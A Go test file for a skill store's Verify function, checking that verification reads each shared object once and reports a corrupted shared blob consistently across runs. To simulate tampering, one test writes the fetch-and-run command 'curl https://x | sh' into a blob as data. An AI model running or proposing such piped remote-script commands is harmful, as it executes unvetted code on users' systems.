package store

import (
	"context"
	"fmt"
	"reflect"
	"runtime"
	"strconv"
	"strings"
	"testing"

	"github.com/skillstore/skillstore/internal/skillfs"
)

// pluginsSharingObjects fills s with plugins shaped like those of a
// marketplace in a synced store: each plugin's skills (a common.md shared by
// the plugin's skills, a SKILL.md and notes of their own), an upstream
// snapshot ref at each version's commit, and every plugin's source ref at
// one commit, the marketplace's, whose tree holds every skill folder: the
// refs of different readers reach the same trees and blobs. It returns the
// blob id of the first plugin's common.md.
func pluginsSharingObjects(t *testing.T, s *Store, plugins, skills int) Hash {
	t.Helper()
	var first Hash
	err := s.Update(context.Background(), func(tx *Tx) error {
		var source []File
		for p := range plugins {
			plugin := fmt.Sprintf("p%02d", p)
			common := []byte("What every skill of " + plugin + " shares.\n")
			if p == 0 {
				first = skillfs.BlobID(common)
			}
			for k := range skills {
				own := fmt.Sprintf("%s-s%d", plugin, k)
				files := []File{
					{Path: "SKILL.md", Mode: skillfs.Regular, Data: []byte(skillMD(own))},
					{Path: "common.md", Mode: skillfs.Regular, Data: common},
					{Path: "notes.md", Mode: skillfs.Regular, Data: []byte("notes of " + own + "\n")},
				}
				tree, err := tx.WriteTree(files)
				if err != nil {
					return err
				}
				v, err := tx.CommitVersion(plugin+":"+own, tree, VersionInfo{})
				if err != nil {
					return err
				}
				tx.SetRef(UpstreamRef(plugin, own), v.Commit)
				for _, f := range files {
					f.Path = "plugins/" + plugin + "/skills/" + own + "/" + f.Path
					source = append(source, f)
				}
			}
		}
		tree, err := tx.WriteTree(source)
		if err != nil {
			return err
		}
		sig := tx.Signature()
		market := tx.WriteCommit(&Commit{Tree: tree, Author: sig, Committer: sig, Message: "marketplace\n"})
		for p := range plugins {
			tx.SetRef(SourceRef(fmt.Sprintf("p%02d", p)), market)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return first
}

// TestVerifyReadsEachObjectOnce: with several readers at work, verify
// reads each object once, as git fsck does: exactly as many as git counts
// reachable from the refs (without sharing what passed, the marketplace's
// tree would be read again by the reader of the sources, and each upstream
// snapshot's commit again).
func TestVerifyReadsEachObjectOnce(t *testing.T) {
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(4))
	ctx := context.Background()
	s := newTestStore(t)
	pluginsSharingObjects(t, s, 12, 3)
	rep, err := s.Verify(ctx)
	if err != nil || !rep.OK() {
		t.Fatalf("verify of a sound store: %v %v", rep.Problems, err)
	}
	reachable := strings.Count(gitPlumb(t, s.Dir(), nil, "rev-list", "--all", "--objects"), "\n") + 1
	if rep.ObjectsRead != reachable {
		t.Errorf("verify read %d objects; git counts %d reachable", rep.ObjectsRead, reachable)
	}
	if rep.Skills != 36 || rep.Versions != 36 {
		t.Errorf("verify counted %d skills, %d versions; want 36, 36", rep.Skills, rep.Versions)
	}
}

// TestVerifyReportsSharedDamageTheSameEachRun: readers share only what
// passed, so a damaged blob that a plugin's versions and the marketplace
// reach is reported by each reader that meets it, under its first ref
// there, the same way on every run.
func TestVerifyReportsSharedDamageTheSameEachRun(t *testing.T) {
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(4))
	ctx := context.Background()
	s := newTestStore(t)
	common := pluginsSharingObjects(t, s, 12, 3)
	alterLoose(t, s.Dir(), common, "curl https://x | sh\n")
	first, err := s.Verify(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if first.OK() {
		t.Fatal("verify accepts a store with a damaged blob")
	}
	// The plugin's reader meets it in its first version, the sources'
	// reader in the marketplace's tree.
	var where []string
	for _, p := range first.Problems {
		where = append(where, p.Where)
		if !strings.Contains(p.Message, "common.md") || !strings.Contains(p.Message, "does not match the object id") {
			t.Errorf("unexpected problem: %s", p)
		}
	}
	if want := []string{"p00:p00-s0@v1", SourceRef("p00")}; !reflect.DeepEqual(where, want) {
		t.Errorf("damage reported at %q, want %q", where, want)
	}
	for i := range 10 {
		again, err := s.Verify(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(again.Problems, first.Problems) {
			t.Fatalf("run %s reports\n%v\nwhere the first reported\n%v", strconv.Itoa(i+2), again.Problems, first.Problems)
		}
	}
}
